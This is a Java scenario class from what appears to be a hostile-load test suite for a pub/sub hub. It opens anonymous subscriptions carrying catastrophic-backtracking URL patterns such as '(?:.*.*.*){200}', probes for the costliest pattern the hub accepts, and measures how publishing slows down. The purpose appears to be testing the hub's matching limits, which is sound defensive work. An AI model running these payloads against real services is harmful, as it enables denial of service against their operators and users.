package dev.sluice.bench.hostile;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * Hole 1: anonymous subscribers with many distinct, costly URL patterns, while an ordinary
 * publisher posts to a new topic at a steady rate, so every pattern is matched against every new
 * topic on the hub's dispatcher.
 *
 * <p>The attacker adapts as a real one would: if the hub refuses the pattern
 * ({@code {200}} repeats) it probes for the costliest repeat count the hub still accepts and
 * attacks with that, so the run measures the hub's matching budget, not only its compile limit.
 */
public final class ExpensiveSelectors implements Scenario {

    private final int connections;
    private final int patternsPerConnection;
    private final int publishesPerSecond;
    private final Duration duration;

    public ExpensiveSelectors(int connections, int patternsPerConnection, int publishesPerSecond, Duration duration) {
        this.connections = connections;
        this.patternsPerConnection = patternsPerConnection;
        this.publishesPerSecond = publishesPerSecond;
        this.duration = duration;
    }

    @Override
    public String id() {
        return "1-selectors";
    }

    @Override
    public String title() {
        return connections + " anonymous connections × " + patternsPerConnection
                + " distinct URL patterns `https://example.com/:gNxM((?:.*.*.*){200})` (or the costliest the hub accepts), " + publishesPerSecond
                + " publishes/s to new topics, " + duration.toSeconds() + " s";
    }

    @Override
    public String needs() {
        return "--allow-anonymous";
    }

    /** Repeat counts tried, costliest first: the pattern, then smaller ones. */
    private static final int[] REPEATS = {200, 160, 120, 100, 80, 60, 40, 20, 10};

    /** The costly pattern number {@code m} of connection {@code n}. */
    static String pattern(int n, int m) {
        return pattern(n, m, 200);
    }

    static String pattern(int n, int m, int repeats) {
        return "https://example.com/:g" + n + "x" + m + "((?:.*.*.*){" + repeats + "})";
    }

    /** The costliest repeat count one probe subscription gets 200 for; 0 if none. */
    private static int costliestAccepted(HostileTarget target, AttackContext context)
            throws InterruptedException {
        for (int repeats : REPEATS) {
            SseWatch probe;
            try {
                probe = SseWatch.connect(target, "match_urlpattern=" + queryValue(pattern(-1, -1, repeats)), null);
            } catch (IOException e) {
                context.refusals().record("attacker probe", e.getClass().getSimpleName());
                continue;
            }
            try {
                probe.awaitStatus(System.nanoTime() + Duration.ofSeconds(10).toNanos());
                if (probe.status() == 200) {
                    return repeats;
                }
                probe.await("\r\n\r\n", Duration.ofSeconds(1));
                probe.await("costly", Duration.ofSeconds(1));
                String text = probe.text();
                int body = text.indexOf("\r\n\r\n");
                String reason = body < 0 ? "" : text.substring(body + 4).strip();
                context.note("a pattern with {" + repeats + "} repeats answered " + probe.status()
                        + (reason.isEmpty() ? "" : ": " + reason.substring(0, Math.min(200, reason.length()))));
            } finally {
                probe.close();
            }
        }
        return 0;
    }

    /**
     * Percent-encodes only what would change the query's meaning ({@code %&+#} and space), so that
     * 100 patterns stay within the hub's request-line limit, as a browser would send them.
     */
    static String queryValue(String value) {
        StringBuilder out = new StringBuilder();
        for (char c : value.toCharArray()) {
            switch (c) {
                case '%', '&', '+', '#', ' ' -> out.append('%').append(String.format("%02X", (int) c));
                default -> out.append(c);
            }
        }
        return out.toString();
    }

    /**
     * Whether the hub takes a cheap URL pattern under the parameter name the attack uses. Without
     * this control a hub that refused the name itself (a renamed parameter, say) would refuse every
     * costly probe too, and the scenario would pass without having attacked anything.
     */
    private static boolean acceptsCheapPattern(HostileTarget target, AttackContext context)
            throws InterruptedException {
        SseWatch control;
        try {
            control = SseWatch.connect(target, "match_urlpattern=" + queryValue("https://example.com/:control"), null);
        } catch (IOException e) {
            context.broken("the control subscription with a cheap URL pattern failed: " + e);
            return false;
        }
        try {
            control.awaitStatus(System.nanoTime() + Duration.ofSeconds(10).toNanos());
            if (control.status() != 200) {
                context.broken("the hub refused a cheap URL pattern (status " + control.status()
                        + "), so refusing the costly ones proves nothing");
                return false;
            }
            return true;
        } finally {
            control.close();
        }
    }

    @Override
    public void attack(HostileTarget target, AttackContext context) throws InterruptedException {
        List<SseWatch> watches = new ArrayList<>();
        if (!acceptsCheapPattern(target, context)) {
            return;
        }
        int repeats = costliestAccepted(target, context);
        if (repeats == 0) {
            context.note("the hub refused every probed pattern shape; publishing without the costly subscribers");
        } else if (repeats != REPEATS[0]) {
            context.note("attacking with {" + repeats + "} repeats, the costliest pattern the hub accepts");
        }
        try {
            for (int n = 0; n < connections && repeats > 0; n++) {
                StringBuilder query = new StringBuilder();
                for (int m = 0; m < patternsPerConnection; m++) {
                    query.append(m == 0 ? "" : "&").append("match_urlpattern=").append(queryValue(pattern(n, m, repeats)));
                }
                try {
                    watches.add(SseWatch.connect(target, query.toString(), null));
                } catch (IOException e) {
                    context.refusals().record("attacker subscribe", e.getClass().getSimpleName());
                }
            }
            // One deadline for all: a hub busy compiling patterns must not stretch the attack.
            long deadline = System.nanoTime() + Duration.ofSeconds(10).toNanos();
            int accepted = 0;
            List<Integer> otherStatuses = new ArrayList<>();
            for (SseWatch w : watches) {
                w.awaitStatus(deadline);
                if (w.status() == 200) {
                    accepted++;
                } else {
                    otherStatuses.add(w.status());
                    context.refusals().record("attacker subscribe", w.status() < 0 ? "no answer in 10 s" : "status " + w.status());
                }
            }
            context.note(accepted + " of " + connections + " costly subscriptions answered 200"
                    + (otherStatuses.isEmpty() ? "" : "; others: " + otherStatuses.stream().distinct().toList()
                        + " (-1: no answer within 10 s)"));
            if (accepted == connections && connections > 0 && repeats == REPEATS[0]) {
                context.note("the hub accepted " + (long) accepted * patternsPerConnection
                        + " costly patterns from anonymous subscribers without a cost limit");
            } else if (accepted > 0) {
                context.note("the hub accepted " + (long) accepted * patternsPerConnection
                        + " patterns of {" + repeats + "} repeats, the costliest its limit allows");
            }
            publishSteadily(target, context);
        } finally {
            watches.forEach(SseWatch::close);
        }
    }

    private void publishSteadily(HostileTarget target, AttackContext context) throws InterruptedException {
        long end = System.nanoTime() + duration.toNanos();
        long interval = 1_000_000_000L / Math.max(1, publishesPerSecond);
        long next = System.nanoTime();
        int sent = 0;
        int ok = 0;
        long slowestMillis = 0;
        for (int i = 0; System.nanoTime() < end; i++) {
            String form = "topic=" + URLEncoder.encode("https://example.com/attack/" + i, StandardCharsets.UTF_8) + "&data=x";
            long t0 = System.nanoTime();
            RawHttp.Exchange answer = RawHttp.exchange(target,
                    RawHttp.publish(target, target.publisherToken(), form.getBytes(StandardCharsets.US_ASCII)),
                    Duration.ofSeconds(10));
            slowestMillis = Math.max(slowestMillis, (System.nanoTime() - t0) / 1_000_000);
            sent++;
            if (answer.status() == 200) {
                ok++;
            }
            next += interval;
            long wait = next - System.nanoTime();
            if (wait > 0) {
                Thread.sleep(wait / 1_000_000);
            }
        }
        context.note("steady publisher: " + ok + " of " + sent + " publishes answered 200, slowest " + slowestMillis + " ms");
    }
}
